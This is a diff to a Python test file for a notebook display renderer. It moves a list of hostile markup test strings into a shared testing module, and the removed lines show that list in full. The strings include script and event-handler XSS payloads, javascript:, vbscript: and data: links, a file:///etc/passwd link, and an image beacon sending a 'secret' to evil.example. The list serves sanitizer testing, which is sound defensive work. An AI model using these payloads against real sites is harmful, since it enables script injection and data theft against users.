@@ -6,34 +6,10 @@ from html.parser import HTMLParser
 import pytest
 
 from jido_nb.notebook.display import bundle, html, markdown, plain
+from jido_nb.testing.hostile import MARKUP as HOSTILE
 
 from .turns import ToldTurn
 
-HOSTILE = (
-    "<script>steal()</script>",
-    "<img src=x onerror=steal()>",
-    "<iframe srcdoc='<script>steal()</script>'></iframe>",
-    "<details open ontoggle=steal()>x</details>",
-    "<style>body{display:none}</style>",
-    "![beacon](https://evil.example/?q=secret)",
-    "![x](javascript:steal())",
-    "[click](javascript:steal())",
-    "[click](JaVaScRiPt:steal())",
-    "[click](data:text/html,<script>steal()</script>)",
-    "[click](vbscript:x)",
-    "[click](file:///etc/passwd)",
-    "[click](//evil.example)",
-    "[click](/api/shutdown)",
-    "<a href='javascript:steal()'>x</a>",
-    '<https://ok.example/"onmouseover=steal()>',
-    "`<script>steal()</script>`",
-    "```html\n<script>steal()</script>\n```",
-    '```"><script>steal()</script>\nx\n```',
-    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=y> | c |",
-    "# <svg onload=steal()>",
-    "&lt;script&gt;",
-    "[ref]: javascript:steal()\n\n[ref]",
-)
 _TAGS = {
     "a", "blockquote", "br", "code", "div", "details", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
     "pre", "s", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul",
